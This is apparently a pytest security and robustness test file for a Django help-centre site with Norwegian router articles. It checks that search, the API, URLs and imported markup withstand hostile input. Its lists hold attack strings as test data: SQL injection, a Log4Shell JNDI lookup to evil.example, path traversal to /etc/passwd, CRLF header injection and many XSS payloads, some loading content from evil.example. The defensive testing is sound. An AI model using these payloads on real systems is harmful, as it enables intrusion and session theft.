"""Throws hostile words, numbers, methods and markup at everything that anybody may ask."""

import json
import re
from collections.abc import Callable

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from articles.importing.html import blocks_of
from articles.models import ArticlePage, SectionPage
from search.api import LONGEST_TYPED
from tests.content import article_of, make_article, make_centres, make_section, prose
from tests.dangers import dangers
from tests.shared_content import once_a_module

QUESTIONS = [
    '"',
    "%",
    "'",
    "*",
    "(",
    "~",
    "\\",
    "\\\\*?",
    "a" * 10_240,
    "ord " * 2_560,
    "\x00",
    "ruter\x00en",
    "\ud800",
    "ruteren \udfff\ud800",
    "\u202eretur",
    "ﬃ" * 500,
    "é" + "\u0301" * 2_000,
    "👩‍👩‍👧‍👦" * 100,
    "text:* AND _exists_:teams",
    'title:"x" OR 1=1',
    "/.*/",
    "[a TO z}",
    "ruteren^1000 && || ! {",
    "'; DROP TABLE articles_article; --",
    '{"query": {"match_all": {}}}',
    "<script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
]


section_made = once_a_module(lambda: make_section(make_centres()["nb"], "Bredbånd").pk)


@pytest.fixture
def section(section_made: int, db: None) -> SectionPage:
    """Return a public section."""
    return SectionPage.objects.get(pk=section_made)  # type: ignore[no-any-return]


@pytest.fixture
def site(section: SectionPage, index_all: Callable[[], None]) -> Client:
    """Return a reader of a help centre with one indexed article."""
    make_article(section, "Start ruteren på nytt", say="Dra ut kontakten.", body=[prose("Vent.")])
    index_all()
    return Client()


MALFORMED = [
    "q=%ff%fe",
    "q[]=a",
    "q=a&q=b",
    "q",
    "q=%ED%A0%80",
    "&&&=",
    "page=99999999999999999999999&q=ruteren",
    "page=-1&q=ruteren",
    "page=1e9&q=ruteren",
    "page=٣&q=ruteren",
    "page=%00&q=ruteren",
    "page=²&q=ruteren",
]
ADDRESSES = [
    "/nb/kb-99999999999999999999999999/",
    "/nb/kb--1/",
    "/nb/%00/",
    "/nb/%ff/",
    "/nb/%ED%A0%80/",
    "/nb/" + "a/" * 500,
    "/nb/" + "a" * 5_000 + "/",
    "/%00",
    "/xx/",
    "/nb/bredb%C3%A5nd/?page=%00",
    "/nb/products/%00/",
]
METHODS = ["POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "X"]
NUMBERS = ["0", "-1", "9" * 30, "1e3", "%00", "x", "1/2"]


def test_a_hostile_question_gets_a_page(site: Client) -> None:
    for question in QUESTIONS:
        asked = {"q": question.encode("utf-8", "surrogatepass")}
        page = site.get("/nb/search/", asked)
        assert (ascii(question), page.status_code) == (ascii(question), 200)
        assert "<script>alert" not in page.content.decode()


def test_a_hostile_question_gets_an_answer(site: Client) -> None:
    for question in QUESTIONS:
        asked: dict[str, str | bytes] = {"q": question.encode("utf-8", "surrogatepass")}
        answer = site.get("/api/answers/v1/search", {**asked, "typing": "true"})
        expected = 200 if len(question) <= LONGEST_TYPED else 400
        assert (ascii(question), answer.status_code) == (ascii(question), expected)
        assert answer.json().get("degraded", False) is False


def test_a_malformed_query_gets_a_page(site: Client) -> None:
    got = {query: site.get(f"/nb/search/?{query}").status_code for query in MALFORMED}
    assert got == dict.fromkeys(MALFORMED, 200)


@pytest.mark.parametrize("query", ["limit=0", "limit=21", "limit=x", "lang=xx", "lang=nb%00"])
def test_the_api_names_a_wrong_parameter(query: str, db: None) -> None:
    answer = Client().get(f"/api/answers/v1/search?q=ruteren&{query}")
    assert answer.status_code == 400
    assert answer["Content-Type"] == "application/problem+json"
    assert answer.json()["errors"][0]["parameter"] == query.partition("=")[0]


def test_a_hostile_address_gets_a_page(site: Client) -> None:
    got = {path: site.get(path, follow=True).status_code for path in ADDRESSES}
    assert {path: status for path, status in got.items() if status not in (200, 404)} == {}


@pytest.mark.parametrize("number", NUMBERS)
def test_a_hostile_number_gets_a_problem(number: str, db: None) -> None:
    answer = Client().get(f"/api/answers/v1/answers/{number}")
    assert answer.status_code in (400, 404)
    assert answer["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize(
    "path", ["/nb/", "/nb/search/?q=ruteren", "/api/answers/v1/search", "/media/x"]
)
def test_an_odd_method_is_refused_or_answered(path: str, site: Client) -> None:
    careful = Client(enforce_csrf_checks=True)
    got = {method: careful.generic(method, path).status_code for method in METHODS}
    assert set(got.values()) <= {200, 403, 404, 405}


@settings(max_examples=40, suppress_health_check=list(HealthCheck))
@given(question=st.text(max_size=60))
def test_any_text_gets_an_answer(question: str, site: Client) -> None:
    asked: dict[str, str | bytes] = {"q": question.encode("utf-8", "surrogatepass"), "lang": "nb"}
    assert site.get("/api/answers/v1/search", asked).status_code == 200


# After the OWASP filter evasion cheat sheet and the tests of DOMPurify: markup, not text.
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)><g/onload=alert(2)></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='x:expression(alert(1))'>x</a>",
    "<a linktype='page' id='1'>x</a><a linktype='document' id='1'>y</a>",
    "<embed embedtype='image' id='1' alt='x'/>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action='//evil.example'><input name=q autofocus onfocus=alert(1)><button formaction=x>",
    "<base href='//evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>",
    "<table background='javascript:alert(1)'><tr><td><script>alert(1)</script>x</td></tr></table>",
    "<pre><code><script>alert(1)</script>&lt;script&gt;alert(2)&lt;/script&gt;</code></pre>",
    "<table><tr><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table>",
    "<h2>&lt;img src=x onerror=alert(1)&gt;</h2><p>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>" * 2_000 + "x",
    "<b><i>" * 500 + "<img src=x onerror=alert(1)>",
]


@pytest.mark.thorough
def test_imported_markup_is_harmless_everywhere(
    section: SectionPage, index_all: Callable[[], None]
) -> None:
    made = {}
    for at, markup in enumerate(MARKUP):
        page = made[markup] = make_article(section, f"Ruteren blinker {at}", live=False)
        page.body = blocks_of(f"<p>ruteren blinker {at}</p>{markup}")
        page.save_revision().publish()
    index_all()
    assert {markup: found for markup in MARKUP if (found := _harm(made[markup]))} == {}


def _harm(page: ArticlePage) -> list[str]:
    """Return what is dangerous wherever an article is shown."""
    client = Client()
    found = client.get("/api/answers/v1/search", {"q": f"{page.title} alert"}).json()["results"]
    shown = [
        client.get(page.get_url()).content.decode(),
        client.get("/nb/search/", {"q": f"{page.title} alert"}).content.decode(),
        client.get(f"/api/answers/v1/answers/{article_of(page).pk}").json()["html"],
        *(result["excerpt_html"] for result in found),
    ]
    return [danger for html in shown for danger in dangers(html)]


@pytest.mark.parametrize("markup", MARKUP[:8], ids=lambda markup: markup[:30])
def test_markup_in_plain_fields_is_shown_as_text(
    markup: str, section: SectionPage, index_all: Callable[[], None]
) -> None:
    section.title = section.intro = f"Bredbånd {markup}"[:200]
    section.save_revision().publish()
    page = make_article(
        section,
        f"Ruteren {markup}",
        slug="x",
        say=f"Ruteren {markup}",
        questions=[f"Hvorfor {markup}"],
        tags=[markup[:90]],
        body=[("code", {"language": markup[:19], "caption": markup, "code": markup})],
    )
    index_all()
    client = Client()
    paths = ["/nb/", section.get_url(), page.get_url(), "/nb/search/?q=ruteren", "/nb/x/"]
    shown = [client.get(path).content.decode() for path in paths]
    found = client.get("/api/answers/v1/search?q=ruteren").json()["results"]
    shown += [result[name] for result in found for name in ("title_html", "excerpt_html")]
    assert found
    assert [danger for html in shown for danger in dangers(html)] == []
    marks = {tag for result in found for tag in re.findall("<[^>]+>", result["title_html"])}
    assert marks <= {"<mark>", "</mark>"}


def test_a_question_is_shown_as_text(site: Client) -> None:
    question = '"><img src=x onerror=alert(1)>'
    page = site.get("/nb/search/", {"q": question}).content.decode()
    assert dangers(page) == []
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_json_is_never_taken_for_html(site: Client) -> None:
    answer = site.get("/api/answers/v1/search", {"q": "<script>alert(1)</script>"})
    assert answer["Content-Type"].startswith("application/json")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert json.loads(answer.content)["query"] == "<script>alert(1)</script>"


def test_no_other_site_frames_a_page(site: Client) -> None:
    for path in ("/nb/", "/nb/contact/", "/nb/sign-in/"):
        answer = site.get(path)
        assert "frame-ancestors 'self'" in answer["Content-Security-Policy"], path
        assert answer["X-Frame-Options"] == "SAMEORIGIN", path


def test_another_host_name_is_written_into_no_page_of_a_server(site: Client) -> None:
    answer = site.get("/nb/", headers={"x-forwarded-host": "evil.example"})
    assert "evil.example" not in answer.content.decode()
